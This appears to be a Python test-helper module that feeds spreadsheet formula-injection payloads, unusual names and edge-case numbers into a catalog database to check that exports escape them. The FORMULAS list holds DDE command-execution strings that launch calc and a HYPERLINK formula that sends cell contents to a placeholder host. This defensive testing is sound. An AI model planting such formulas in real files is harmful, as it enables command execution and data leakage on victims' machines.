"""Texts that somebody means harm with, odd numbers, and ways to put them into a copy of the edition."""

from __future__ import annotations

import datetime as dt
import sqlite3
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from app.catalog.catalog import Catalog
from app.catalog.kinds import Table
from app.catalog.selection import Selection

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=1+1,=2+2",
    'x";=1+1',
    "a;=1+1",
    "a\t=1+1",
    "a\r\n=1+1",
)
NAMES = (
    'He said "no"',
    "comma, semicolon; tab\tend",
    "two\r\nlines",
    "شركة التجارة",
    "\u202eevil\u202c",
    "🐄 trade 👩‍👩‍👧",
    "Ж'Ж",
    "it's",
    "'quoted",
    "  spaces  ",
    "007",
    "1e5",
    "2024-10",
    "TRUE",
    "#REF!",
    "_x0041_",
    "<b>&amp;</b>",
    "%s %d %%",
    "a\x01b\x1fc",
    "NULL",
)
NUMBERS = (-5.0, -0.5, 0.1, 135000000.0, 1 / 3, 1e-7, 1e21, 4503599627370497.5, -12345678.9, 0.0)


def fill_sources(path: Path, titles: Sequence[str]) -> tuple[int, ...]:
    """Replace references from 10,001 on by some with these titles, which are their notes too; their numbers."""
    numbers = tuple(range(10_001, 10_001 + len(titles)))
    connection = sqlite3.connect(path)
    with connection:
        connection.execute("DELETE FROM source WHERE id > 10000")
        connection.executemany(
            "INSERT INTO source (id, title, note) VALUES (?, ?, ?)", zip(numbers, titles, titles, strict=True)
        )
    connection.close()
    return numbers


def fill_figures(path: Path, values: Sequence[float]) -> tuple[str, ...]:
    """Replace the figures called `x-…` by some with these values; their ids."""
    ids = tuple(f"x-{n:07}" for n in range(len(values)))
    connection = sqlite3.connect(path)
    with connection:
        connection.execute("DELETE FROM figure WHERE id LIKE 'x-%'")
        connection.executemany(
            """INSERT INTO figure (id, subject_id, measure, label, period_start, period_end, value, unit, qualifier, nature,
                section_id)
            VALUES (?, 'belarus', 'exports', 'A value', '2024-01-01', '2024-12-31', ?, 'USD', 'exact', 'actual', 1)""",
            zip(ids, values, strict=True),
        )
    connection.close()
    return ids


def rows_of(path: Path, selection: Selection) -> list[tuple[Any, ...]]:
    """The selected rows as the database holds them."""
    catalog = Catalog(path)
    try:
        return list(catalog.selected_rows(selection))
    finally:
        catalog.close()


def harmless(text: str) -> str:
    """A text as it stands in a file for spreadsheets."""
    return f"'{text}" if text.startswith(TRIGGERS) else text


def sources(numbers: Sequence[int], *columns: str) -> Selection:
    return Selection(Table.SOURCES, ids=tuple(numbers), columns=columns)


def figures(ids: Sequence[str], *columns: str) -> Selection:
    return Selection(Table.FIGURES, ids=tuple(ids), columns=columns)


def day(value: Any) -> Any:
    """A day as text, whatever a spreadsheet made of it."""
    return value.date().isoformat() if isinstance(value, dt.datetime) else value
